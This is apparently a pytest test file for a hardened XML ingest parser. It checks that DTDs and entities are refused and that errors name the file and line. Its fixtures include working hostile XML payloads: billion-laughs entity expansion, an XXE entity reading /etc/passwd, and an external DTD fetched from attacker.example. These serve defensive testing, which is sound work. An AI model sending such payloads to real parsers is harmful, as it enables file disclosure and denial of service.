"""Hardened XML parsing: DTDs and entities refused, syntax errors named by file and line."""

from __future__ import annotations

import io

import pytest

from openteller.domain.errors import IngestError
from openteller.ingest.safe_xml import iterparse, local_name

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Document><Ntry>&lol3;</Ntry></Document>
"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>

<!DOCTYPE Document [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<Document><Ntry>&xxe;</Ntry></Document>
"""

EXTERNAL_DTD = b'<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">\n<Document/>'


def _events(data: bytes, name: str = "hostile.xml") -> list[tuple[str, str]]:
    return [(e, local_name(el)) for e, el in iterparse(io.BytesIO(data), name)]


@pytest.mark.parametrize(
    ("data", "line"),
    [(BILLION_LAUGHS, 2), (XXE, 3), (EXTERNAL_DTD, 1)],
    ids=["billion-laughs", "xxe-file", "external-dtd"],
)
def test_dtd_declarations_are_refused_with_file_and_line(data: bytes, line: int) -> None:
    with pytest.raises(IngestError, match=rf"^hostile\.xml: line {line}: <!DOCTYPE> "):
        _events(data)


def test_xxe_never_reads_the_file() -> None:
    with pytest.raises(IngestError) as excinfo:
        _events(XXE)
    assert "root:" not in str(excinfo.value)


def test_entity_declaration_split_across_chunks_is_refused() -> None:
    # The prolog is longer than one 64 KiB chunk: the guard keeps scanning until the root.
    data = b'<?xml version="1.0"?>\n' + b"<!-- padding -->\n" * 5000 + XXE.split(b"\n", 2)[2]
    with pytest.raises(IngestError, match=r"line 5002: <!DOCTYPE>"):
        _events(data)


def test_utf16_doctype_is_refused_by_the_backstop() -> None:
    data = XXE.decode("utf-8").replace("UTF-8", "UTF-16").encode("utf-16")
    with pytest.raises(IngestError, match=r"hostile\.xml: line 4: <!DOCTYPE> declaration before"):
        _events(data)


def test_truncated_document_names_line() -> None:
    data = b"<Document>\n  <Ntry>\n    <Amt>1.00</Amt>\n  </Ntry>\n  <Ntry>\n    <Amt>2."
    with pytest.raises(IngestError, match=r"^cut\.xml: line 6: malformed XML: Premature end"):
        _events(data, "cut.xml")


def test_wrong_encoding_names_line() -> None:
    data = "<Document>\n<Nm>Café</Nm>\n</Document>".encode("latin-1")
    with pytest.raises(IngestError, match=r"^latin\.xml: line 2: malformed XML: .*encoding"):
        _events(data, "latin.xml")


def test_undefined_entity_is_a_syntax_error() -> None:
    with pytest.raises(IngestError, match=r"^e\.xml: line 2 \(or before\): malformed XML"):
        _events(b"<Document>\n&nope;</Document>", "e.xml")


def test_empty_file() -> None:
    with pytest.raises(IngestError, match=r"^empty\.xml: line 1: empty file"):
        _events(b"", "empty.xml")


def test_tags_filter_matches_any_namespace_and_stream_events() -> None:
    data = b'<D xmlns="urn:a"><S><Ntry/><X/><Ntry/></S></D>'
    events = [
        (e, local_name(el)) for e, el in iterparse(io.BytesIO(data), "ok.xml", tags=["{*}Ntry"])
    ]
    assert events == [("end", "Ntry"), ("end", "Ntry")]


def test_cdata_mentioning_doctype_after_the_root_is_fine() -> None:
    data = b"<Document><Nm><![CDATA[<!DOCTYPE is just text here]]></Nm></Document>"
    texts = {local_name(el): el.text for _e, el in iterparse(io.BytesIO(data), "ok.xml")}
    assert texts["Nm"] == "<!DOCTYPE is just text here"
